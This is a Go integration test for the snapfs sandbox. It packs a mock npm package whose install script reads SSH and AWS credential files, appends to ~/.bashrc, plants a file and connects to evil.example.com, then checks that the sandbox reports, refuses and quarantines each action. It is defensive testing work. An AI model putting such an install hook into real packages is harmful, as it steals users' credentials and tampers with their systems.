package main

import (
	"archive/tar"
	"compress/gzip"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/snapfs/snapfs/internal/treetest"
)

// thief is the install script of a package, which reads a key, writes outside and connects out.
const thief = `const fs = require("fs"), home = require("os").homedir()
try { fs.readFileSync(home + "/.ssh/id_rsa") } catch { }
fs.existsSync(home + "/.aws/credentials")
fs.appendFileSync(home + "/.bashrc", "evil\n")
fs.writeFileSync(process.env.INIT_CWD + "/planted.js", "evil")
require("net").connect(443, "evil.example.com").on("error", () => process.exit(0))
`

// packed writes the npm package thief to a file.
func packed(path string) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	z := gzip.NewWriter(f)
	w := tar.NewWriter(z)
	for name, text := range map[string]string{
		"package/package.json": `{"name": "thief", "version": "1.0.0", "scripts": {"install": "node steal.js"}}`,
		"package/steal.js":     thief,
	} {
		err = errors.Join(err, w.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(text))}))
		_, werr := w.Write([]byte(text))
		err = errors.Join(err, werr)
	}
	return errors.Join(err, w.Close(), z.Close(), f.Close())
}

// TestNpmInstallIsQuarantined: npm installs a package whose script steals, and the real tree gets node_modules
// and the lock file alone.
func TestNpmInstallIsQuarantined(t *testing.T) {
	if !treetest.Long(t) {
		return
	}
	treetest.NeedDevice(t, "/dev/net/tun")
	treetest.NeedProgram(t, "npm", "node")
	b := newDesk(t)
	const manifest = `{"name": "w", "version": "1.0.0"}`
	real := func(name string) string { return filepath.Join(b.workspace, name) }
	if err := errors.Join(packed(filepath.Join(filepath.Dir(b.workspace), "thief.tgz")), os.WriteFile(real("package.json"), []byte(manifest), 0o644)); err != nil {
		t.Fatal(err)
	}
	o := b.snapfs("run", "--apply", "--profile", "npm-install", "--", "npm", "install", "--offline", "--no-audit", "--no-fund", "--no-update-notifier",
		"--foreground-scripts", "--cache", "/tmp/cache", "--logs-max", "0", "../thief.tgz").want(0)
	home, err := os.UserHomeDir()
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range []string{
		"looked for a hidden file: " + home + "/.ssh/id_rsa (by node)",
		"looked for a hidden file: " + home + "/.aws/credentials (by node)",
		"refused: evil.example.com: no rule allows evil.example.com",
		"outside the result: " + real("package.json"),
		"outside the result: " + real("planted.js"),
		"outside the result: " + home + "/.bashrc",
	} {
		if !strings.Contains(o.all, "snapfs: "+line+"\n") {
			t.Errorf("not reported: %s\n%s", line, o.all)
		}
	}
	for name, there := range map[string]bool{"node_modules/thief/steal.js": true, "package-lock.json": true, "planted.js": false} {
		if _, err := os.Lstat(real(name)); (err == nil) != there {
			t.Errorf("%s in the real tree: %v", name, err)
		}
	}
	if text, err := os.ReadFile(real("package.json")); err != nil || string(text) != manifest {
		t.Errorf("package.json: %q, %v", text, err)
	}
	kept := strings.TrimSpace(b.snapfs("last").want(0).stdout)
	b.snapfs("apply", kept, "package.json").want(0)
	if text, err := os.ReadFile(real("package.json")); err != nil || !strings.Contains(string(text), "thief") {
		t.Errorf("package.json, applied by name: %q, %v", text, err)
	}
	b.snapfs("rm", kept).want(0)
}
